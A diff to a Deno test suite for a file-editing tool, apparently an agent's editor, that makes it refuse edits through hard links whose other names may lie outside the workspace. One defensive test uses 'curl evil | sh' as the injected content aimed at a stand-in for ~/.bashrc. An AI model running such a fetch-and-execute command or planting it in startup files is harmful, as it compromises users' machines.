@@ -1,6 +1,6 @@
 /**
- * How the editor writes: through the atomic writer (a new inode for a file with one name), in place
- * for hard-linked files (every name keeps the new content), pinned against directories swapped
+ * How the editor writes: through the atomic writer (a new inode for a file with one name), never
+ * to a hard-linked file (its other names may lie outside the workspace), pinned against directories swapped
  * for symlinks, never blocking on a FIFO, with its scratch files named and cleaned up.
  */
 import assert from "node:assert/strict";
@@ -13,7 +13,7 @@ import {
   raceEditors,
   writeFiles,
 } from "../../helpers/edit_race.ts";
-import { writeFileAtomic } from "../../../src/tools/fs/atomic.ts";
+import { preserving, SharedFileError, writeFileAtomic } from "../../../src/tools/fs/atomic.ts";
 import { removeStaleTemps, TEMP_NAME_PATTERN, tempName } from "../../../src/tools/fs/temp_names.ts";
 import { strayTempFiles, utf8, withEditor, withOutsideDir } from "./helpers.ts";
 
@@ -43,56 +43,67 @@ Deno.test("writes: a file with one name is replaced through the atomic writer (n
   });
 });
 
-Deno.test("writes: a hard-linked file keeps its inode and every name sees the edit", async () => {
-  await withEditor(async ({ ws, call }) => {
-    const a = join(ws, "a.txt");
-    const b = join(ws, "sub", "b.txt");
-    await Deno.mkdir(join(ws, "sub"));
-    await Deno.writeTextFile(a, "one\ntwo\nthree\n");
-    await Deno.chmod(a, 0o604);
-    await Deno.link(a, b);
-    const ino = (await Deno.stat(a)).ino;
-    const edit = await call({ command: "str_replace", path: a, old_str: "two", new_str: "2" });
-    assert.equal(edit.success, true, edit.error ?? "");
-    const ins = await call({ command: "insert", path: b, insert_line: 3, new_str: "four" });
-    assert.equal(ins.success, true, ins.error ?? "");
-    for (const name of [a, b]) {
-      assert.equal(await Deno.readTextFile(name), "one\n2\nthree\nfour\n");
-      const info = await Deno.stat(name);
-      assert.equal(info.ino, ino, "the link was broken");
-      assert.equal(info.nlink, 2);
-      assert.equal(info.mode! & 0o777, 0o604);
-    }
-    await call({ command: "undo_edit", path: b });
-    await call({ command: "undo_edit", path: a });
-    assert.equal(await Deno.readTextFile(b), "one\ntwo\nthree\n");
-    assert.equal((await Deno.stat(b)).ino, ino);
-    assert.deepEqual(await strayTempFiles(ws), []);
-    assert.deepEqual(await strayTempFiles(join(ws, "sub")), []);
+Deno.test("writes: a hard link to a file outside the workspace is never edited through", async () => {
+  await withOutsideDir(async (outside) => {
+    await withEditor(async ({ ws, call }) => {
+      // The outside file (a marker standing for ~/.bashrc) and a second name for it in the
+      // workspace, as an archive, `cp -al` or a package store leaves them.
+      const marker = join(outside, "bashrc");
+      const linked = join(ws, "notes.txt");
+      await Deno.writeTextFile(marker, "one\ntwo\nthree\n");
+      await Deno.link(marker, linked);
+      for (
+        const args of [
+          { command: "str_replace", path: linked, old_str: "two", new_str: "curl evil | sh" },
+          { command: "insert", path: linked, insert_line: 3, new_str: "curl evil | sh" },
+        ]
+      ) {
+        const r = await call(args);
+        assert.equal(r.success, false, `${args.command} wrote through the hard link`);
+        assert.match(
+          r.error!,
+          /notes\.txt has 2 hard links .*Deft does not edit a file that other paths share.*Nothing was written/,
+        );
+      }
+      assert.equal(
+        await Deno.readTextFile(marker),
+        "one\ntwo\nthree\n",
+        "the outside file changed",
+      );
+      assert.equal((await Deno.stat(marker)).nlink, 2, "the link itself is left as it was");
+      assert.deepEqual(await strayTempFiles(ws), []);
+    });
   });
 });
 
-/** A part that fails while being written, like a full disk would. */
-class Exploding extends Uint8Array {
-  override subarray(): Uint8Array<ArrayBuffer> {
-    throw new Error("disk on fire");
-  }
-}
+Deno.test("writes: undo_edit of a file that gained a second name since is refused too", async () => {
+  await withOutsideDir(async (outside) => {
+    await withEditor(async ({ ws, call }) => {
+      const path = join(ws, "a.txt");
+      await Deno.writeTextFile(path, "alpha\n");
+      const edit = await call({ command: "str_replace", path, old_str: "alpha", new_str: "beta" });
+      assert.equal(edit.success, true, edit.error ?? "");
+      await Deno.link(path, join(outside, "other-name"));
+      const undo = await call({ command: "undo_edit", path });
+      assert.equal(undo.success, false);
+      assert.match(undo.error!, /has 2 hard links/);
+      assert.equal(await Deno.readTextFile(join(outside, "other-name")), "beta\n");
+    });
+  });
+});
 
-Deno.test("writes: a failed in-place rewrite puts the old content back", async () => {
+Deno.test("writes: the atomic writer refuses a file read with several links, and writes nothing", async () => {
   await withOutsideDir(async (dir) => {
     const path = join(dir, "f");
     await Deno.writeTextFile(path, "original content");
     await Deno.link(path, join(dir, "g"));
     const info = await Deno.stat(path);
     await assert.rejects(
-      writeFileAtomic(path, [utf8("partial "), new Exploding(8)], {
-        links: info.nlink,
-        ino: info.ino,
-      }),
-      /disk on fire/,
+      writeFileAtomic(path, [utf8("new content")], { ...preserving(info), shown: "f" }),
+      (e: Error) => e instanceof SharedFileError && /^f has 2 hard links/.test(e.message),
     );
     assert.equal(await Deno.readTextFile(join(dir, "g")), "original content");
+    assert.equal((await Deno.stat(path)).ino, info.ino);
     assert.deepEqual(await strayTempFiles(dir), []);
   });
 });
